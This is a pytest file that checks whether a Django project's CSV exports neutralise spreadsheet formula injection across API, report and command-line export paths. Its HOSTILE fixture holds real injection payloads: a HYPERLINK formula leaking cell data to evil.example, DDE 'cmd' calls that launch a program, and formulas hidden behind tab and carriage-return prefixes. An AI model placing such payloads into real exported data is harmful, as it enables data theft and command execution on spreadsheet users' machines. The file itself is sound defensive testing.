"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from engagement.definitions.services import create_draft, publish_definition
from engagement.store.exports import FORMULA_TRIGGERS
from tests.factories import (
    ChannelFactory,
    DistributionFactory,
    ForceFactory,
    RecomputeRunFactory,
    SnapshotFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    "channel_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "team": "+1+cmd|' /C calc'!A0",
    "force_name": "-2+3+cmd|' /C calc'!A0",
    "force_slug": "=evil",
    "channel_slug": "@evil",
    "definition_name": "\t=1+1",
    "run_error": "\r=1+1",
}


@pytest.fixture
def hostile(db):
    force = ForceFactory(slug=HOSTILE["force_slug"], name=HOSTILE["force_name"])
    channel = ChannelFactory(
        force=force,
        slug=HOSTILE["channel_slug"],
        name=HOSTILE["channel_name"],
        team=HOSTILE["team"],
    )
    draft = create_draft()
    draft.name = HOSTILE["definition_name"]
    draft.save()
    publish_definition(definition=draft)
    RecomputeRunFactory(error=HOSTILE["run_error"])
    snapshot = SnapshotFactory()  # of the current definition, v2
    for position in range(3):
        DistributionFactory(snapshot=snapshot, force=force, rung_position=position)
        DistributionFactory(
            snapshot=snapshot, force=force, channel=channel, scope="channel", rung_position=position
        )
    return channel


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for value in row]


def body(response) -> str:
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8")


def assert_inert(text: str, *expected: str) -> None:
    values = cells(text)
    assert not [value for value in values if value.startswith(FORMULA_TRIGGERS)]
    for value in expected:
        assert "'" + value in values


def test_api_channel_list_csv(api_client, hostile):
    text = body(api_client.get("/api/v1/channels/", {"format": "csv"}))
    assert_inert(text, HOSTILE["channel_name"], HOSTILE["team"], HOSTILE["channel_slug"])


def test_api_single_channel_csv(api_client, hostile):
    text = body(api_client.get(f"/api/v1/channels/{hostile.pk}/", {"format": "csv"}))
    assert_inert(text, HOSTILE["channel_name"], HOSTILE["team"])


def test_api_force_list_csv(api_client, hostile):
    assert_inert(body(api_client.get("/api/v1/forces/", {"format": "csv"})), HOSTILE["force_name"])


def test_api_definition_list_csv(api_client, hostile):
    text = body(api_client.get("/api/v1/definitions/", {"format": "csv"}))
    assert_inert(text, HOSTILE["definition_name"])


def test_api_recompute_run_list_csv(api_client, hostile):
    text = body(api_client.get("/api/v1/recompute-runs/", {"format": "csv"}))
    assert_inert(text, HOSTILE["run_error"])


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_api_distributions_csv(api_client, hostile, layout):
    text = body(api_client.get("/api/v1/distributions/", {"format": "csv", "layout": layout}))
    assert_inert(text, HOSTILE["force_slug"], HOSTILE["channel_slug"])


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_report_download(client, analyst, hostile, layout):
    client.force_login(analyst)
    text = body(client.get("/reports/export.csv", {"layout": layout, "bom": "1"}))
    assert_inert(text, HOSTILE["force_slug"], HOSTILE["channel_slug"])


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_export_command(hostile, layout):
    out = StringIO()
    call_command("export_distributions", layout=layout, stdout=out)
    assert_inert(out.getvalue(), HOSTILE["force_slug"], HOSTILE["channel_slug"])


def test_api_error_body_csv(api_client, hostile):
    response = api_client.get("/api/v1/distributions/", {"format": "csv", "scope": "=1+1"})
    assert response.status_code == 400
    assert not [v for v in cells(response.content.decode()) if v.startswith(FORMULA_TRIGGERS)]
